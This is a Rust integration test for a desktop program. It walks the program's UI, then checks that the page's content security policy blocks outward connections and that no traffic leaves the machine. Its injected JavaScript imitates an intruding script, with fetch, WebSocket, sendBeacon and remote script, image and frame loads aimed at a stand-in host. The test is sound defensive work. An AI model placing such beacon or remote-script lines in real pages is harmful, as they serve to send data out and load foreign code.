//! The program has no business on the network, and is watched while it works, as it is when nobody has turned anything on.

use crate::page::Page;
use crate::support::Desktop;

/// The parts of the page's policy that refuse what a script would try.
const REFUSED: [&str; 6] = ["connect-src", "frame-src", "img-src", "media-src", "script-src-elem", "style-src-elem"];

// policy: 21, 31
#[tokio::test(flavor = "multi_thread")]
async fn the_running_program_opens_no_connection() {
    let (desktop, watch) = Desktop::start_watched();
    let page = Page(desktop.open(&[]).await);
    page.see("create-start").await;
    page.0.quit().await.expect("the window of the first run closes");

    let register = desktop.demo_register(60);
    let page = Page(desktop.open(&["--register", &register.display().to_string()]).await);
    page.unlock().await;
    page.open_person("K10003", "request").await;
    page.open_request().await;
    page.preview().await;
    page.click("extract-save").await;
    page.see("case-answered").await;
    page.click("nav-log").await;
    page.click("log-verify").await;
    page.see("log-verdict").await;
    page.click("nav-settings").await;
    page.see("settings-organisation").await;
    for tab in page.tabs_of(0).await {
        page.click(&tab).await;
        let name = tab.trim_start_matches("settings-");
        page.see_css(&tab, &format!("[role='tabpanel'][aria-labelledby$='-{name}'] *")).await;
    }
    // What a script that got in would try, all at once; the policy refuses each of these before a socket is made.
    let refused = page
        .wait_for(&format!(
            "const refused = new Set(), wanted = {REFUSED:?};
             document.addEventListener('securitypolicyviolation', event => refused.add(event.effectiveDirective));
             const add = (tag, set) => {{ const it = document.createElement(tag); set(it); document.body.append(it); }};
             fetch('http://192.0.2.7/').catch(() => {{}});
             add('img', it => {{ it.src = 'http://192.0.2.7/pixel.gif'; }});
             add('script', it => {{ it.src = 'http://192.0.2.7/intruder.js'; }});
             add('link', it => {{ it.rel = 'stylesheet'; it.href = 'http://192.0.2.7/x.css'; }});
             add('iframe', it => {{ it.src = 'http://192.0.2.7/'; }});
             add('video', it => {{ it.src = 'http://192.0.2.7/x.mp4'; }});
             try {{ new WebSocket('ws://192.0.2.7/'); }} catch {{}}
             navigator.sendBeacon('http://192.0.2.7/', 'x');
             const until = performance.now() + 30000;
             const look = () => wanted.every(each => refused.has(each)) || performance.now() > until
               ? done([...refused].sort()) : setTimeout(look, 50);
             look();"
        ))
        .await;
    for directive in REFUSED {
        let found = refused.as_array().expect("a list").iter().any(|each| each == directive);
        assert!(found, "{directive} refused nothing: {refused}");
    }

    page.0.quit().await.expect("the window closes");
    let programs = watch.programs();
    assert!(programs.contains("cequred-register"), "the program was watched: {programs:?}");
    assert!(programs.iter().any(|name| name.starts_with("WebKitNetwork")), "and what loads its page: {programs:?}");
    assert!(!watch.internet().is_empty(), "the driver is spoken to over this computer's own address");
    let outward = watch.outward();
    assert!(outward.is_empty(), "asked for elsewhere: {outward:#?}");
}
